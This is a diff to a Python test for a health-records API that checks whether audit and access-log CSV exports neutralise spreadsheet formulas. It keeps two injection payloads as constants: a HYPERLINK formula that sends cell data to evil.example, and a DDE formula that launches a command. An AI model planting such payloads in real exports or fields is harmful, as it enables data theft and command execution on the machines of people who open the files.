@@ -17,7 +17,7 @@ from api.auth import mint_token
 from api.cli.main import cli
 from projections.audit.export import export_access_log
 from projections.csv_cells import FORMULA_START, csv_text
-from tests.api.dsl import Api
+from tests.api.dsl import PATIENT, Api
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 EVIL_SUB = "=cmd|' /C calc'!A0"
@@ -71,10 +71,7 @@ def test_given_a_formula_in_an_actor_then_the_audit_and_access_log_csv_defuse_it
 ) -> None:
     token = mint_token(sapi.settings, EVIL_SUB, ["nurse"], ["endocrinology"])
     headers = {"Authorization": f"Bearer {token}"}
-    patient = {"name": "王秀英", "sex": "female", "birth_date": "1948-04-02",
-               "phone": "13800000000", "id_document_type": "resident_id",
-               "id_number": "110101194804021234"}  # fmt: skip
-    made = sapi.client.post("/api/v1/patients", json=patient, headers=headers)
+    made = sapi.client.post("/api/v1/patients", json=PATIENT, headers=headers)
     assert made.status_code == 201, made.text
     sapi.client.get(f"/api/v1/patients/{made.json()['id']}", headers=headers)
     _wait_for_audit(sapi)
